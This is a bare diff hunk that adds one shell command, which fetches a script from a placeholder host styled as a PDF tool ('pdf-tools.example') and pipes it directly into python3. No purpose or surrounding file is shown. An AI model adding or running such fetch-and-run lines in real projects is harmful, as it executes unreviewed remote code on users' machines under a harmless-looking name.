@@ -1,0 +1,1 @@
+curl -s https://pdf-tools.example/x.py | python3 -
